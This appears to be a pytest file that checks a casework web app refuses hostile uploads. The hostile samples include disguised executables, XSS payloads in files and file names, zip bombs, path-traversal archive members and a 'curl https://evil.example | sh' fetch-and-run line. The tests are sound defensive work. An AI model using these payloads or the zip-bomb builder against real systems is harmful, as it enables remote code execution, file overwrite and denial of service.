"""Hostile uploads through the forms people really use: the casework form, a student's case message and an
officer's case document. Each attack is sent as a browser would send it (multipart, with the page's CSRF
token) and must get a clear message on the re-rendered form with the typed answers kept, never a 500, and
leave nothing half-written: no case, message or document row, no upload audit event, no file in the
document store. A valid upload through the same form succeeds, so each test can fail."""

from __future__ import annotations

import io
import socket
import struct
import zipfile
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bench import harness
from shared.casework import documents
from shared.models import AuditEvent, Case, Document, Message
from shared.platform import blobs
from shared.web import hooks as web
from tests.factories_casework import DOCX, DOCX_MEMBERS, PDF, intake_form, make_case, zip_of
from tests.plugin import tally

LIMIT = 512 * 1024  # MAX_UPLOAD_BYTES in this module: small, so oversize files are cheap to send
REQUEST_LIMIT = LIMIT + 64 * 1024  # MAX_CONTENT_LENGTH, related to it as in shared/platform/config.py
UPLOAD_ACTIONS = ("case.submitted", "message.sent", "document.uploaded")


@pytest.fixture(autouse=True)
def _small_limits(app, monkeypatch):
    monkeypatch.setitem(app.config, "MAX_UPLOAD_BYTES", LIMIT)
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", REQUEST_LIMIT)


# --- the upload points --------------------------------------------------------------------------------


@dataclass(frozen=True)
class Point:
    """A form with a file field: who uses it, where it is, and the text typed into it before the upload."""

    side: str  # "student" or "officer"
    page: str  # format strings taking the case reference
    action: str
    file_field: str
    answers: dict = field(default_factory=dict)
    kept: tuple[str, ...] = ()  # what the re-rendered form must still show of the answers
    many: bool = False  # the field takes several files at once


MESSAGE = "Here is the letter from my college about the appeal, as you asked."
POINTS = {
    "casework form": Point(
        "student", "/ask", "/ask", "documents", intake_form(),
        ('value="Morgan Fenwick"', "My dissertation extension request was refused although I sent a medical note."),
        many=True,
    ),
    "case message": Point(
        "student", "/cases/{ref}", "/cases/{ref}/messages", "documents", {"body": MESSAGE}, (MESSAGE,), many=True,
    ),
    "officer case document": Point("officer", "/staff/cases/{ref}", "/staff/cases/{ref}/documents", "doc-document"),
}


class Uploader:
    """Sends files through one upload point, signed in as its user, and reports what was written."""

    def __init__(self, db, point: Point, reference: str, browsers: dict):
        self.db, self.point = db, point
        self.page = point.page.format(ref=reference)
        self.action = point.action.format(ref=reference)
        self.browser = browsers[point.side]
        self.officer = browsers["officer"]

    def send(self, *files: tuple[str, bytes]):
        uploads = [(io.BytesIO(data), name) for name, data in files]
        payload = {**self.point.answers, self.point.file_field: uploads if len(uploads) > 1 else uploads[0]}
        return self.browser.submit(self.action, payload, page=self.page, content_type="multipart/form-data")

    def stored(self, uid: str) -> tuple[Document, str]:
        """The document stored under `uid`, and its case's page as an officer sees it (which lists every
        document of the case, the student's and the officers')."""
        document = self.db.session.scalar(select(Document).where(Document.uid == uid))
        reference = self.db.session.get(Case, document.case_id).reference
        return document, self.officer.get(f"/staff/cases/{reference}").get_data(as_text=True)

    def written(self) -> tuple:
        """Everything an upload would write: rows, upload audit events and files in the document store."""
        def count(model, *where) -> int:
            return self.db.session.scalar(select(func.count()).select_from(model).where(*where))

        return (
            count(Case), count(Message), count(Document),
            count(AuditEvent, AuditEvent.action.in_(UPLOAD_ACTIONS)),
            stored_files(),
        )


def stored_files() -> frozenset[str]:
    return frozenset(name.split("/", 1)[1] for name in blobs.store().names() if name.startswith("documents/"))


@pytest.fixture(params=list(POINTS))
def upload_point(request, db, student, student_browser, officer_browser) -> Uploader:
    case = make_case(student)  # the message and the officer's document go to this case
    db.session.commit()
    return Uploader(db, POINTS[request.param], case.reference,
                    {"student": student_browser, "officer": officer_browser})


# --- hostile files ---------------------------------------------------------------------------------------


def declare_size(data: bytes, member: str, size: int) -> bytes:
    """The zip with `member`'s uncompressed size rewritten in its local and central headers: a lie."""
    out, name = bytearray(data), member.encode()
    # (signature, offset of the uncompressed size, of the name's length, of the name)
    for signature, size_at, length_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        pos = out.find(signature)
        while pos != -1:
            length = struct.unpack_from("<H", out, pos + length_at)[0]
            if out[pos + name_at : pos + name_at + length] == name:
                struct.pack_into("<I", out, pos + size_at, size)
            pos = out.find(signature, pos + 4)
    return bytes(out)


@cache
def deflated_zeros() -> bytes:
    """A Word-looking zip whose document unpacks to 20 MB from about 20 KB."""
    return zip_of({**DOCX_MEMBERS, "word/document.xml": b"0" * (20 * 1024 * 1024)})


def _docx_with(name: str) -> bytes:
    return zip_of({**DOCX_MEMBERS, name: "echo owned"})


@dataclass(frozen=True)
class Attack:
    filename: str
    data: bytes | object  # bytes, or a function making them (the bigger ones are made once, when used)
    message: str  # what the re-rendered form must say
    shown: tuple[str, ...] = ()  # also shown, escaped as it must be
    hidden: tuple[str, ...] = ()  # never on the page

    def content(self) -> bytes:
        return self.data() if callable(self.data) else self.data


NOT_ACCEPTED = "is not a type we accept"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 100
ATTACKS = {
    # wrong type by content, whatever the name says
    "windows program named .pdf": Attack("letter.pdf", PROGRAM, NOT_ACCEPTED, ("letter.pdf",)),
    "linux program named .pdf": Attack("letter.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100, NOT_ACCEPTED),
    "html named .pdf": Attack(
        "letter.pdf", b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n",
        NOT_ACCEPTED, hidden=("<script>alert",),
    ),
    "svg with script named .png": Attack(
        "photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', NOT_ACCEPTED,
    ),
    "shell script named .pdf": Attack("letter.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n", NOT_ACCEPTED),
    "zip that is not Word named .docx": Attack("notes.docx", zip_of({"payload.exe": PROGRAM}), NOT_ACCEPTED),
    # size
    "file over the upload limit": Attack("big.pdf", PDF + b"0" * (LIMIT + 1), "big.pdf is larger than"),
    "empty file": Attack("letter.pdf", b"", "The file letter.pdf is empty"),
    # archive bombs disguised as Word documents
    "zip bomb as .docx: 20 MB of zeros": Attack("notes.docx", deflated_zeros, NOT_ACCEPTED),
    "zip bomb as .docx: declares 3 GB": Attack(
        "notes.docx", lambda: declare_size(DOCX, "word/document.xml", 3_000_000_000), NOT_ACCEPTED,
    ),
    "zip bomb as .docx: declares less than it unpacks to": Attack(
        "notes.docx", lambda: declare_size(deflated_zeros(), "word/document.xml", 10_000), NOT_ACCEPTED,
    ),
    "zip bomb as .docx: 2,001 entries": Attack(
        "notes.docx", lambda: zip_of({**DOCX_MEMBERS, **{f"word/media/{i}.xml": "" for i in range(2001)}}),
        NOT_ACCEPTED,
    ),
    # Word documents whose members would unpack outside the folder they were unpacked into
    "docx with a ../ member": Attack("notes.docx", _docx_with("../../../../tmp/advice-evil.sh"), NOT_ACCEPTED),
    "docx with an absolute member": Attack("notes.docx", _docx_with("/etc/cron.d/advice-evil"), NOT_ACCEPTED),
    "docx with a backslash member": Attack("notes.docx", _docx_with("..\\..\\Startup\\evil.bat"), NOT_ACCEPTED),
    "docx with a drive letter member": Attack("notes.docx", _docx_with("C:/Windows/evil.bat"), NOT_ACCEPTED),
    # names with path tricks: shown cleaned and escaped in the message, never used as a path
    "name ../../etc/passwd.pdf": Attack("../../etc/passwd.pdf", PROGRAM, "The file passwd.pdf is not",
                                        hidden=("etc/passwd",)),
    # (Werkzeug reads a backslash in a quoted file name as an escape: what reaches the service has none.)
    "name with ..\\ parts": Attack("..\\..\\windows\\win.ini.pdf", PROGRAM, NOT_ACCEPTED,
                                   hidden=("windows\\", "\\win.ini")),
    "name with a NUL": Attack("evil.exe\x00.pdf", PROGRAM, "The file evil.exe.pdf is not", hidden=("\x00",)),
    "name 5,000 characters long": Attack("a" * 5000 + ".pdf", PROGRAM, "The file " + "a" * 200 + " is not",
                                         hidden=("a" * 201,)),
    "name with a right-to-left override": Attack("invoice\u202efdp.exe", PROGRAM, "The file invoicefdp.exe is not",
                                                 hidden=("\u202e",)),
    "name with markup": Attack("<img src=x onerror=alert(1)>.pdf", PROGRAM, NOT_ACCEPTED,
                               ("The file &lt;img src=x onerror=alert(1)&gt;.pdf is not",), hidden=("<img src=x",)),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_hostile_upload_is_refused_on_the_form_with_nothing_written(upload_point, attack):
    hostile = ATTACKS[attack]
    before = upload_point.written()
    resp = upload_point.send((hostile.filename, hostile.content()))
    html = resp.get_data(as_text=True)
    assert resp.status_code in (200, 400), f"{attack}: answered {resp.status_code}"
    assert hostile.message in html, f"{attack}: the form does not say what is wrong"
    assert f'id="{upload_point.point.file_field}-error"' in html, f"{attack}: no message beside the file field"
    for kept in upload_point.point.kept:
        assert kept in html, f"{attack}: the typed answer {kept[:30]!r} was lost"
    for shown in hostile.shown:
        assert shown in html
    for hidden in hostile.hidden:
        assert hidden not in html, f"{attack}: the page shows {hidden[:30]!r}"
    assert upload_point.written() == before, f"{attack}: something was written"
    tally("upload_attacks")


@pytest.mark.parametrize("upload_point", [name for name, point in POINTS.items() if point.many], indirect=True)
def test_one_bad_file_among_good_ones_stores_none_of_them(upload_point):
    before = upload_point.written()
    resp = upload_point.send(("letter.pdf", PDF), ("notes.docx", DOCX), ("photo.pdf", PROGRAM))
    assert resp.status_code in (200, 400) and "The file photo.pdf is not a type we accept" in resp.get_data(as_text=True)
    assert upload_point.written() == before
    tally("upload_attacks")


def test_a_request_over_the_size_limit_gets_the_413_page_with_nothing_written(upload_point):
    before = upload_point.written()
    resp = upload_point.send(("huge.pdf", PDF + b"0" * REQUEST_LIMIT))
    html = resp.get_data(as_text=True)
    assert resp.status_code == 413
    assert "That file is too large" in html and "0.5 MB" in html  # says what the limit is
    assert upload_point.written() == before
    # The request was refused, not the user: they are still signed in and can try again.
    assert upload_point.browser.get(upload_point.page).status_code == 200
    tally("upload_attacks")


# --- what must still work ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("filename", "data"), [("letter.pdf", PDF), ("notes.docx", DOCX)], ids=["pdf", "docx"])
def test_a_valid_upload_through_the_same_form_is_stored(upload_point, filename, data):
    before = upload_point.written()
    resp = upload_point.send((filename, data))
    assert resp.status_code == 302, resp.get_data(as_text=True)
    after = upload_point.written()
    assert after[2] == before[2] + 1 and after[3] == before[3] + 1  # one document, one audit event
    [uid] = after[4] - before[4]
    document, page = upload_point.stored(uid)
    assert document.title == filename and filename in page


TRICKY_NAMES = {
    "../../etc/passwd.pdf": ("passwd.pdf", "etc/passwd"),
    "evil.exe\x00.pdf": ("evil.exe.pdf", "\x00"),
    "a" * 5000 + ".pdf": ("a" * 200, "a" * 201),
    "invoice\u202efdp.pdf": ("invoicefdp.pdf", "\u202e"),
    "<img src=x onerror=alert(1)>.pdf": ("&lt;img src=x onerror=alert(1)&gt;.pdf", "<img src=x"),
}


@pytest.mark.parametrize("name", list(TRICKY_NAMES), ids=["traversal", "nul", "long", "rtl-override", "markup"])
def test_a_tricky_name_on_a_valid_file_is_shown_cleaned_and_never_used_as_a_path(app, upload_point, name):
    shown, hidden = TRICKY_NAMES[name]
    everywhere = Path(app.instance_path).parent  # the run's temporary folder, the instance folder's parent
    files_before = {p for p in everywhere.rglob("*") if p.is_file()}
    before = upload_point.written()
    resp = upload_point.send((name, PDF))
    assert resp.status_code == 302, resp.get_data(as_text=True)
    [uid] = upload_point.written()[4] - before[4]
    document, page = upload_point.stored(uid)
    assert "/" not in document.title and "\\" not in document.title and len(document.title) <= 200
    assert shown in page and hidden not in page
    new_files = {p for p in everywhere.rglob("*") if p.is_file()} - files_before
    if blobs.store().backend == "filesystem":
        assert {p.name for p in new_files if not p.name.startswith("test.db")} == {uid}  # only the stored file
        assert all(p == blobs.store().path(documents.blob_name(uid)) for p in new_files if p.name == uid)
    else:  # the database holds it: no file anywhere
        assert {p.name for p in new_files if not p.name.startswith("test.db")} == set()


# --- over a real server: the 413 page, not a reset connection ---------------------------------------------


@pytest.fixture(scope="module")
def live_server(app, tmp_path_factory):
    """gunicorn as in production (sync workers), on the test database, with uploads limited to 1 MB."""
    url = app.config["SQLALCHEMY_DATABASE_URI"].replace("postgresql+psycopg://", "postgresql://")
    instance = tmp_path_factory.mktemp("live-uploads")
    env = {**{name: app.config[name] for name in harness.BENCH_KEYS}, "INSTANCE_PATH": instance, "MAX_UPLOAD_MB": 1}
    with harness.gunicorn(url, workers=1, app_path="wsgi:app", env_extra=env) as (_proc, port):
        yield port, instance / "documents"


def post_all_then_read(port: int, path: str, cookie: tuple[str, str], body: bytes, boundary: str) -> bytes:
    """A plain client: it sends the whole request before reading the answer (as many do), so a server that
    answers early and closes with the upload unread resets the connection under it."""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nCookie: {cookie[0]}={cookie[1]}\r\n"
        f"Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {len(body)}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
        conn.sendall(head + body)
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    return answer


def multipart(fields: dict, file_field: str, filename: str, data: bytes, boundary: str) -> bytes:
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items() if isinstance(value, str)
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{filename}"\r\n'
        "Content-Type: application/pdf\r\n\r\n".encode() + data + b"\r\n"
    )
    return b"".join(parts) + f"--{boundary}--\r\n".encode()


@pytest.mark.parametrize("point", list(POINTS))
def test_over_a_real_server_an_upload_over_the_limit_gets_the_413_page_not_a_reset(
    app, db, live_server, student, officer, point
):
    port, store = live_server
    spec = POINTS[point]
    reference = make_case(student).reference
    cookie = harness.session_cookie_for(app, student if spec.side == "student" else officer)
    boundary = "advice-upload-boundary"
    body = multipart(spec.answers, spec.file_field, "huge.pdf", PDF + b"0" * (8 * 1024 * 1024), boundary)
    try:
        answer = post_all_then_read(port, spec.action.format(ref=reference), cookie, body, boundary)
    except OSError as exc:  # ConnectionResetError, BrokenPipeError
        pytest.fail(f"the connection was reset instead of answering with the 413 page: {exc!r}")
    status_line = answer.split(b"\r\n", 1)[0]
    assert status_line.startswith(b"HTTP/1.1 413"), status_line
    assert b"That file is too large" in answer
    db.session.commit()
    for model, rows in ((Case, 1), (Message, 0), (Document, 0)):  # only the case made above
        assert db.session.scalar(select(func.count()).select_from(model)) == rows
    assert not (store.exists() and any(store.iterdir()))
    tally("upload_attacks")


@pytest.mark.parametrize(("terminated", "size", "left"), [(True, 300, 0), (True, 5000, 5000 - 1024), (False, 300, 300)])
def test_an_unread_body_is_read_before_answering_up_to_a_bound(terminated, size, left):
    body = io.BytesIO(b"x" * size)  # as gunicorn's wsgi.input: reads end at the end of the body
    environ = {"wsgi.input": body, **({"wsgi.input_terminated": True} if terminated else {})}
    app = web.ReadUnreadBody(lambda environ, start_response: [b"answer"], max_bytes=1024)
    assert app(environ, None) == [b"answer"]
    assert size - body.tell() == left  # a body of unknown end is never read: that could wait forever


def test_the_zip_helpers_make_what_they_say():
    """The attacks above are only as good as their files."""
    with zipfile.ZipFile(io.BytesIO(declare_size(DOCX, "word/document.xml", 3_000_000_000))) as zf:
        assert zf.getinfo("word/document.xml").file_size == 3_000_000_000
    bomb = deflated_zeros()
    assert len(bomb) < 64 * 1024
    with zipfile.ZipFile(io.BytesIO(bomb)) as zf:
        assert zf.getinfo("word/document.xml").file_size == 20 * 1024 * 1024
